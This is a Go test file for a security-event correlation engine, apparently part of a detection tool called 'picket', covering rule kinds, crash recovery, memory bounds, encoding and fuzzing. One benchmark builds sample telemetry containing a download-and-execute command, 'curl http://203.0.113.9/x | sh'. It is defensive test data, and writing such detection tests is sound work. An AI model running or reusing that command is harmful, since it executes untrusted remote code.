package correlation

import (
	"fmt"
	"maps"
	"math/rand/v2"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"picket/schemas"
)

var roomy = Limits{Lateness: 2 * time.Minute, Keys: 10000, Bytes: 64 << 20}

func id(n int) [16]byte { return schemas.Hash128(strconv.Itoa(n)) }

// match is event n, at seconds after the epoch, with a value or a step.
func match(d *Definition, key string, n int, seconds float64, step int, value string) Match {
	return Match{Def: d, Key: []string{key}, Event: Event{Time: int64(seconds * 1e9), ID: id(n), Step: step, Value: value,
		Fields: map[string]string{"n": strconv.Itoa(n), "step" + strconv.Itoa(step): value}, Doc: []byte(strconv.Itoa(n))}}
}

func definition(kind Kind) *Definition {
	d := &Definition{Rule: string(kind), Version: string(kind) + "-1", Kind: kind, Window: 60 * time.Second, Hold: 60 * time.Second, AtLeast: 3,
		By: []string{"k"}, Output: []string{"", "correlation.count", " with ", "n"}}
	switch kind {
	case Sequence:
		d.Steps = 3
	case Absence:
		d.Steps = 2
	case Baseline:
		d.Learn = 10 * time.Minute
	case Suppress:
		d.Window, d.AtLeast = 0, 1
	}
	return d
}

// end is a time after which nothing is open.
const end = int64(100 * time.Hour)

// latest keeps the last revision of each alert and checks that revisions come
// once each and in order.
func latest(t *testing.T, alerts []Alert) map[[16]byte]Alert {
	t.Helper()
	out := make(map[[16]byte]Alert)
	for _, a := range alerts {
		if before := out[a.ID]; a.Revision != before.Revision+1 {
			t.Errorf("alert of rule %s: revision %d after %d", a.Def.Rule, a.Revision, before.Revision)
		}
		out[a.ID] = a
	}
	return out
}

// numbers are the events of an alert as they were numbered.
func numbers(a Alert) (out []string) {
	for _, e := range a.Events {
		out = append(out, e.Fields["n"])
	}
	return out
}

func TestKinds(t *testing.T) {
	type in struct {
		key   string
		at    float64
		step  int
		value string
	}
	for _, c := range []struct {
		name   string
		kind   Kind
		change func(*Definition)
		in     []in
		// want are the alerts at their last revision: events, and the number of revisions.
		want []string
	}{
		{name: "count reached", kind: Count, in: []in{{"a", 0, 0, ""}, {"a", 30, 0, ""}, {"a", 60, 0, ""}}, want: []string{"0 1 2 r1"}},
		{name: "count not reached in time", kind: Count, in: []in{{"a", 0, 0, ""}, {"a", 30, 0, ""}, {"a", 60.1, 0, ""}}},
		{name: "count by key", kind: Count, in: []in{{"a", 0, 0, ""}, {"b", 1, 0, ""}, {"a", 2, 0, ""}, {"b", 3, 0, ""}, {"b", 4, 0, ""}}, want: []string{"1 3 4 r1"}},
		{name: "what follows belongs to it", kind: Count, in: []in{{"a", 0, 0, ""}, {"a", 1, 0, ""}, {"a", 2, 0, ""}, {"a", 50, 0, ""}, {"a", 62, 0, ""}}, want: []string{"0 1 2 3 4 r2"}},
		{name: "again after the hold", kind: Count, in: []in{{"a", 0, 0, ""}, {"a", 1, 0, ""}, {"a", 2, 0, ""}, {"a", 100, 0, ""}, {"a", 101, 0, ""}, {"a", 102, 0, ""}}, want: []string{"0 1 2 r1", "3 4 5 r1"}},
		{name: "distinct", kind: Distinct, in: []in{{"a", 0, 0, "x"}, {"a", 1, 0, "x"}, {"a", 2, 0, "y"}, {"a", 3, 0, "x"}, {"a", 4, 0, "z"}}, want: []string{"0 1 2 3 4 r1"}},
		{name: "not distinct", kind: Distinct, in: []in{{"a", 0, 0, "x"}, {"a", 1, 0, "x"}, {"a", 2, 0, "y"}, {"a", 3, 0, "x"}}},
		{name: "sequence", kind: Sequence, in: []in{{"a", 0, 0, ""}, {"a", 10, 1, ""}, {"a", 20, 2, ""}}, want: []string{"0 1 2 r1"}},
		{name: "sequence in another order", kind: Sequence, in: []in{{"a", 0, 1, ""}, {"a", 10, 0, ""}, {"a", 20, 2, ""}}},
		{name: "sequence too slow", kind: Sequence, in: []in{{"a", 0, 0, ""}, {"a", 10, 1, ""}, {"a", 61, 2, ""}}},
		{name: "sequence of two keys", kind: Sequence, in: []in{{"a", 0, 0, ""}, {"b", 10, 1, ""}, {"a", 20, 2, ""}}},
		{name: "sequence comes late", kind: Sequence, in: []in{{"a", 20, 2, ""}, {"a", 10, 1, ""}, {"a", 0, 0, ""}}, want: []string{"2 1 0 r1"}},
		{name: "sequence at once", kind: Sequence, in: []in{{"a", 5, 2, ""}, {"a", 5, 0, ""}, {"a", 5, 1, ""}}, want: []string{"1 2 0 r1"}},
		{name: "absence", kind: Absence, in: []in{{"a", 0, 0, ""}, {"b", 10, 1, ""}}, want: []string{"0 r1"}},
		{name: "presence", kind: Absence, in: []in{{"a", 0, 0, ""}, {"a", 60, 1, ""}}},
		{name: "presence comes late", kind: Absence, in: []in{{"a", 0, 0, ""}, {"a", 170, 0, ""}, {"a", 55, 1, ""}, {"a", 200, 1, ""}}},
		{name: "presence before", kind: Absence, in: []in{{"a", 10, 0, ""}, {"a", 9, 1, ""}}, want: []string{"0 r1"}},
		{name: "suppress", kind: Suppress, in: []in{{"a", 0, 0, ""}, {"b", 1, 0, ""}, {"a", 30, 0, ""}, {"a", 60, 0, ""}, {"a", 61, 0, ""}}, want: []string{"0 2 3 r2", "1 r1", "4 r1"}},
		{name: "baseline", kind: Baseline, in: []in{{"a", 0, 0, "x"}, {"a", 1, 0, "y"}, {"a", 700, 0, "x"}, {"a", 701, 0, "z"}, {"a", 702, 0, "z"}, {"b", 703, 0, "z"}}, want: []string{"3 r1"}},
		{name: "too late", kind: Count, in: []in{{"a", 500, 0, ""}, {"a", 379, 0, ""}, {"a", 379, 0, ""}, {"a", 379, 0, ""}}},
	} {
		t.Run(c.name, func(t *testing.T) {
			d := definition(c.kind)
			s := New(roomy)
			for i, x := range c.in {
				m := match(d, x.key, i, x.at+1000, x.step, x.value)
				s.Add(&m)
				s.Add(&m)
			}
			s.Advance(end)
			var got []string
			for _, a := range latest(t, s.Alerts()) {
				got = append(got, strings.Join(numbers(a), " ")+" r"+strconv.Itoa(int(a.Revision)))
			}
			slices.Sort(got)
			if !slices.Equal(got, c.want) {
				t.Errorf("alerts %q, want %q", got, c.want)
			}
			if n := s.Keys(); n != 0 && c.kind != Baseline {
				t.Errorf("%d keys are remembered at the end, %d bytes", n, s.Bytes())
			}
			if n := s.Bytes(); s.Keys() == 0 && n != 0 {
				t.Errorf("%d bytes counted for nothing", n)
			}
		})
	}
}

// reference is what a rule means, told over all the events at once.
func reference(d *Definition, all []Match) (out []string) {
	events := make(map[string][]Event)
	for _, m := range all {
		k := m.Key[0]
		if !slices.ContainsFunc(events[k], func(e Event) bool { return e.ID == m.ID && e.Step == m.Step }) {
			events[k] = append(events[k], m.Event)
		}
	}
	for _, k := range slices.Sorted(maps.Keys(events)) {
		es := events[k]
		slices.SortFunc(es, func(a, b Event) int { return compare(&a, &b) })
		raised := int64(-1 << 60)
		known := make(map[string]bool)
		for j, e := range es {
			if d.Kind == Baseline {
				if !known[e.Value] && e.Time > es[0].Time+int64(d.Learn) {
					out = append(out, fmt.Sprint(k, 1, []string{e.Fields["n"]}))
				}
				known[e.Value] = true
				continue
			}
			if e.Time <= raised+int64(d.Hold) {
				continue
			}
			hit := d.Kind == Suppress
			var before []Event
			values := make(map[string]bool)
			for _, o := range es[:j+1] {
				if o.Time >= e.Time-int64(d.Window) {
					before = append(before, o)
					values[o.Value] = true
				}
			}
			switch d.Kind {
			case Count:
				hit = len(before) >= d.AtLeast
			case Distinct:
				hit = len(values) >= d.AtLeast
			case Sequence:
				if e.Step == d.Steps-1 { // every choice of earlier events
					var try func(step int, from int) bool
					try = func(step, from int) bool {
						for i := from; i < len(before); i++ {
							last := step == d.Steps-1
							if before[i].Step == step && (last == (i == len(before)-1)) && (last || try(step+1, i+1)) {
								return true
							}
						}
						return false
					}
					hit = try(0, 0)
				}
			case Absence:
				hit = e.Step == 0 && !slices.ContainsFunc(es, func(o Event) bool { return o.Step == 1 && o.Time >= e.Time && o.Time <= e.Time+int64(d.Window) })
			}
			if !hit {
				continue
			}
			raised = e.Time
			total := 0
			var named []string
			for _, o := range es {
				from := e.Time - int64(d.Window)
				if d.Kind == Absence {
					from = e.Time
				}
				if o.Time >= from && o.Time <= e.Time+int64(d.Hold) && (d.Kind != Absence || o.Step == 0) {
					total++
					named = append(named, o.Fields["n"])
				}
			}
			if total > MaxEvidence {
				named = nil
			}
			out = append(out, fmt.Sprint(k, total, named))
		}
	}
	return out
}

func told(alerts map[[16]byte]Alert) (out []string) {
	for _, a := range alerts {
		named := numbers(a)
		if a.Total > MaxEvidence {
			named = nil
		}
		out = append(out, fmt.Sprint(a.Key[0], a.Total, named))
	}
	slices.Sort(out)
	return out
}

// Whatever the order within the lateness, however often a match comes, and
// wherever the state is written down and taken up again: the alerts are those of
// the reference.
func TestAgainstReference(t *testing.T) {
	seeds := 40
	if testing.Short() {
		seeds = 10
	}
	raised := make(map[Kind]int)
	for seed := range seeds {
		rng := rand.New(rand.NewPCG(uint64(seed), 7))
		for _, kind := range []Kind{Count, Distinct, Sequence, Absence, Baseline, Suppress} {
			d := definition(kind)
			if kind != Suppress && kind != Baseline {
				d.Window = time.Duration(20+rng.IntN(100)) * time.Second
				d.Hold = time.Duration(1+rng.IntN(150)) * time.Second
				d.AtLeast = 2 + rng.IntN(4)
			}
			var all []Match
			at := 10000.0
			for n := range 20 + rng.IntN(150) {
				at += rng.ExpFloat64() * 15
				step, value := 0, strconv.Itoa(rng.IntN(6))
				if d.Steps > 0 {
					step = rng.IntN(d.Steps)
				}
				all = append(all, match(d, string(rune('a'+rng.IntN(3))), n, at, step, value))
			}
			want := reference(d, all)
			slices.Sort(want)
			raised[kind] += len(want)

			inOrder := run(t, rng, all, false)
			if got := told(inOrder); !slices.Equal(got, want) {
				t.Fatalf("seed %d: %s in order: %q, want %q", seed, kind, got, want)
			}
			// Deliveries again and restarts change nothing at all.
			if again := run(t, rng, repeated(rng, all), true); !reflect.DeepEqual(again, inOrder) {
				t.Fatalf("seed %d: %s with repeats and restarts: %v, want %v", seed, kind, again, inOrder)
			}
			if kind == Baseline {
				continue // what is late when the learning time ends is decided as it comes
			}
			late := slices.Clone(all)
			delay := make(map[[16]byte]int64, len(late))
			for _, m := range late {
				delay[m.ID] = m.Time + rng.Int64N(int64(roomy.Lateness))
			}
			slices.SortFunc(late, func(a, b Match) int { return int((delay[a.ID] - delay[b.ID]) / 1000) })
			got := told(run(t, rng, repeated(rng, late), true))
			if !slices.Equal(got, want) {
				t.Fatalf("seed %d: %s out of order: %q, want %q", seed, kind, got, want)
			}
		}
	}
	for kind, n := range raised {
		if n < seeds/4 {
			t.Errorf("%s: %d alerts in %d rounds: too few to prove anything", kind, n, seeds)
		}
	}
	t.Log(raised)
}

// repeated has every match, and some once more soon after.
func repeated(rng *rand.Rand, all []Match) (out []Match) {
	for i, m := range all {
		out = append(out, m)
		if i > 0 && rng.IntN(4) == 0 {
			out = append(out, all[i-rng.IntN(min(i, 3))])
		}
	}
	return out
}

// run adds matches; with crashes it now and then goes back to the last snapshot
// and to what has not been acknowledged since, as an owner's successor does: what
// was raised since then was not published. It returns what was published.
func run(t *testing.T, rng *rand.Rand, all []Match, crashes bool) map[[16]byte]Alert {
	t.Helper()
	s := New(roomy)
	var published []Alert
	saved, from := snap(t, s), 0
	for i := 0; i < len(all); i++ {
		m := all[i]
		s.Add(&m)
		if !crashes {
			continue
		}
		switch rng.IntN(12) {
		case 0: // snapshot, publish, die before that is noted: the same is published again
			saved, from = snap(t, s), i+1
			fallthrough
		case 1:
			s = restore(t, saved)
			i = from - 1
		case 2:
			saved, from = snap(t, s), i+1
			published = add(published, s.Alerts())
			s.Published(len(s.Alerts()))
		}
	}
	s.Advance(end)
	return latest(t, add(published, s.Alerts()))
}

// add publishes: an alert's revision that is there is dropped, as JetStream does.
func add(published, more []Alert) []Alert {
	for _, a := range more {
		if !slices.ContainsFunc(published, func(b Alert) bool { return a.ID == b.ID && a.Revision == b.Revision }) {
			published = append(published, a)
		}
	}
	return published
}

func snap(t *testing.T, s *State) []byte {
	t.Helper()
	data, err := s.Snapshot(1 << 20)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func restore(t *testing.T, data []byte) *State {
	t.Helper()
	s, err := Restore(data, roomy)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// Memory is bounded, whatever comes, and what goes is counted.
func TestBounds(t *testing.T) {
	l := Limits{Lateness: time.Minute, Keys: 50, Bytes: 50 << 10} // which fewer keys with findings fill
	s := New(l)
	d, other := definition(Count), definition(Suppress)
	d.AtLeast = 3
	for n := range 20000 {
		m := match(d, strconv.Itoa(n%400), n, 1000+float64(n)/100, 0, "")
		s.Add(&m)
		m = match(other, strconv.Itoa(n), n, 1000+float64(n)/100, 0, "")
		m.Doc = make([]byte, 1000)
		s.Add(&m)
		s.Published(len(s.Alerts()))
		if s.Bytes() > l.Bytes || s.Keys() > 2*l.Keys {
			t.Fatalf("after %d: %d keys, %d bytes", n, s.Keys(), s.Bytes())
		}
	}
	if s.Stats.Keys < 19000 {
		t.Errorf("%d keys counted as given up", s.Stats.Keys)
	}

	// A flood on one key: the first and the last of its events stay.
	s = New(roomy)
	flood := definition(Suppress)
	flood.Hold = time.Hour
	for n := range 5000 {
		m := match(flood, "a", n, 1000+float64(n)/10, 0, "")
		s.Add(&m)
	}
	if s.Stats.Events != 5000-MaxEvents {
		t.Errorf("%d events given up", s.Stats.Events)
	}
	s.Advance(end)
	a := s.Alerts()
	if len(a) != 2 || a[1].Total != 5000 || len(a[1].Events) != MaxEvidence || a[1].Events[5].Fields["n"] != "5" || string(a[1].At.Doc) != "0" {
		t.Errorf("%d alerts; the last of %d events, %d named, about %q", len(a), a[len(a)-1].Total, len(a[len(a)-1].Events), a[len(a)-1].At.Doc)
	}

	// A baseline of many values.
	s = New(roomy)
	base := definition(Baseline)
	for n := range 3 * maxValues {
		m := match(base, "a", n, 1000+float64(n)/100, 0, strconv.Itoa(n))
		s.Add(&m)
	}
	if s.Stats.Values != 2*maxValues || len(s.Alerts()) != 0 {
		t.Errorf("%d values given up, %d alerts", s.Stats.Values, len(s.Alerts()))
	}

	// A snapshot has room for what it must have, not for everything.
	s = New(roomy)
	rng := rand.New(rand.NewPCG(1, 2))
	for n := range 3000 {
		m := match(d, strconv.Itoa(n), n, 1000, 0, "")
		m.Doc = make([]byte, 1000)
		for i := range m.Doc { // does not compress
			m.Doc[i] = byte(rng.Uint32())
		}
		s.Add(&m)
	}
	data, err := s.Snapshot(960 << 10)
	if err != nil {
		t.Fatal(err)
	}
	if len(data) > 960<<10 || s.Stats.Keys < 2000 {
		t.Errorf("%d bytes, %d keys given up", len(data), s.Stats.Keys)
	}
	if r := restore(t, data); r.Keys() != s.Keys() || r.Bytes() != s.Bytes() {
		t.Errorf("%d keys and %d bytes of %d and %d", r.Keys(), r.Bytes(), s.Keys(), s.Bytes())
	}
}

// However much is due at once, and however large one key is, the state can be stored.
func TestAlwaysStored(t *testing.T) {
	const most, keys = 960 << 10, 3000
	rng := rand.New(rand.NewPCG(3, 4))
	noise := func(n int) []byte { // does not compress
		out := make([]byte, n)
		for i := range out {
			out[i] = byte(rng.Uint32())
		}
		return out
	}
	s := New(roomy)
	d := definition(Suppress)
	for n := range 2 * keys {
		m := match(d, strconv.Itoa(n%keys), n, 1000+float64(n)/1000, 0, "")
		m.Doc = noise(1000)
		s.Add(&m)
	}
	s.Published(len(s.Alerts()))
	told := 0
	for s.Advance(end); len(s.Alerts()) > 0; s.Advance(end) {
		if s.OutboxBytes > maxTold+maxAlertBytes {
			t.Fatalf("%d bytes of alerts at once", s.OutboxBytes)
		}
		told += len(s.Alerts())
		if _, err := s.Snapshot(most); err != nil {
			t.Fatal(err)
		}
		s.Published(len(s.Alerts()))
	}
	if lost := int(s.Stats.Keys); told+lost < keys || told < keys/10 {
		t.Errorf("%d keys told, %d given up of %d", told, lost, keys)
	}

	s = New(roomy)
	for n := range maxDocs {
		m := match(d, "one", n, 1000+float64(n), 0, "")
		m.Doc = noise(MaxDoc)
		s.Add(&m)
	}
	s.Published(len(s.Alerts()))
	data, err := s.Snapshot(most)
	if err != nil || s.Stats.Keys != 1 || s.Bytes() != 0 {
		t.Fatalf("%d bytes, %d keys given up, %d bytes left: %v", len(data), s.Stats.Keys, s.Bytes(), err)
	}
}

func TestWire(t *testing.T) {
	d := definition(Sequence)
	var all []Match
	for n := range 2000 {
		m := match(d, "a", n, float64(n), n%3, "v")
		m.Doc = []byte(`{"a":"` + strings.Repeat("x", 300) + `"}`)
		all = append(all, m)
	}
	messages, err := Encode(all)
	if err != nil {
		t.Fatal(err)
	}
	var got []Match
	for _, data := range messages {
		if len(data) > 2*MaxMessage {
			t.Errorf("message of %d bytes", len(data))
		}
		ms, err := Decode(data)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, ms...)
	}
	if len(messages) < 2 || !reflect.DeepEqual(got, all) {
		t.Errorf("%d matches of %d in %d messages", len(got), len(all), len(messages))
	}
}

// What no rule file can say is refused, because the state relies on it.
func TestOutOfBounds(t *testing.T) {
	fine := func() Match { return match(definition(Sequence), "a", 1, 1, 0, "x") }
	for name, spoil := range map[string]func(*Match){
		"a kind that is none":     func(m *Match) { m.Def.Kind = "sum" },
		"no version":              func(m *Match) { m.Def.Version = "" },
		"too many steps":          func(m *Match) { m.Def.Steps = MaxSteps + 1 },
		"a sequence of one step":  func(m *Match) { m.Def.Steps = 1 },
		"steps below none":        func(m *Match) { m.Def.Kind, m.Def.Steps = Count, -1 },
		"an absence of nothing":   func(m *Match) { m.Def.Kind, m.Def.Steps = Absence, 1 },
		"at least too many":       func(m *Match) { m.Def.AtLeast = MaxAtLeast + 1 },
		"a window too long":       func(m *Match) { m.Def.Window = MaxWindow + 1 },
		"a hold below none":       func(m *Match) { m.Def.Hold = -1 },
		"a step there is none of": func(m *Match) { m.Step = m.Def.Steps },
		"a key too long":          func(m *Match) { m.Key = make([]string, MaxBy+1) },
		"a time before 1970":      func(m *Match) { m.Time = -1 },
		"a time after all":        func(m *Match) { m.Time = maxTime + 1 },
	} {
		m := fine()
		spoil(&m)
		data, err := Encode([]Match{m})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := Decode(data[0]); err == nil {
			t.Errorf("%s is taken", name)
		}
	}
	data, err := Encode([]Match{fine()})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Decode(data[0]); err != nil {
		t.Errorf("one that is fine: %v", err)
	}
}

// Whatever comes on the bus is refused or taken, and never stops its owner.
func FuzzDecode(f *testing.F) {
	for _, kind := range []Kind{Count, Distinct, Sequence, Absence, Baseline, Suppress} {
		d := definition(kind)
		data, err := Encode([]Match{match(d, "a", 1, 1, 0, "x"), match(d, "a", 2, 2, max(d.Steps, 1)-1, "y")})
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data[0])
	}
	f.Add([]byte(`{"rules":[null],"matches":[{"rule":0}]}`))
	f.Add([]byte(`{"rules":[],"matches":[{"rule":-1,"event":"00"}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		ms, err := Decode(data)
		if err != nil {
			return
		}
		s := New(roomy)
		for i := range ms {
			s.Add(&ms[i])
		}
		s.Advance(end)
		for _, a := range s.Alerts() {
			_ = a.Message()
		}
		if out, err := s.Snapshot(1 << 20); err == nil {
			restore(t, out)
		}
	})
}

// full is a state of one partition at its bound, with findings as they are.
func full(b *testing.B) *State {
	s := New(Limits{Lateness: 2 * time.Minute, Keys: 10000, Bytes: 4 << 20})
	d := definition(Count)
	doc := []byte(strings.Repeat(`{"process":{"name":"bash","cmd_line":"bash -c curl http://203.0.113.9/x | sh"},"uid":"`, 30))
	for n := 0; s.Stats.Keys == 0; n++ {
		m := match(d, strconv.Itoa(n/2), n, 1000+float64(n)/1000, 0, "")
		m.Doc = []byte(string(doc) + strconv.Itoa(n*7919))
		s.Add(&m)
	}
	b.ReportMetric(float64(s.Keys()), "keys")
	return s
}

func BenchmarkSnapshot(b *testing.B) {
	s := full(b)
	size := 0
	for b.Loop() {
		data, err := s.Snapshot(960 << 10)
		if err != nil {
			b.Fatal(err)
		}
		size = len(data)
	}
	b.ReportMetric(float64(s.Keys()), "keys")
	b.ReportMetric(float64(s.Bytes()), "state-bytes")
	b.ReportMetric(float64(size), "stored-bytes")
}

func BenchmarkRestore(b *testing.B) {
	s := full(b)
	data, err := s.Snapshot(960 << 10)
	if err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		if _, err := Restore(data, s.limits); err != nil {
			b.Fatal(err)
		}
	}
}

// One match of 1,000 keys in turn.
func BenchmarkAdd(b *testing.B) {
	for _, kind := range []Kind{Count, Distinct, Sequence, Absence, Baseline, Suppress} {
		b.Run(string(kind), func(b *testing.B) {
			s, d, n := New(roomy), definition(kind), 0
			for b.Loop() {
				step := 0
				if d.Steps > 0 {
					step = n / 1000 % d.Steps
				}
				m := Match{Def: d, Key: []string{strconv.Itoa(n % 1000)}, Event: Event{Time: 1e12 + int64(n)*5e6, ID: id(n), Step: step, Value: strconv.Itoa(n % 7)}}
				s.Add(&m)
				s.Published(len(s.Alerts()))
				n++
			}
		})
	}
}
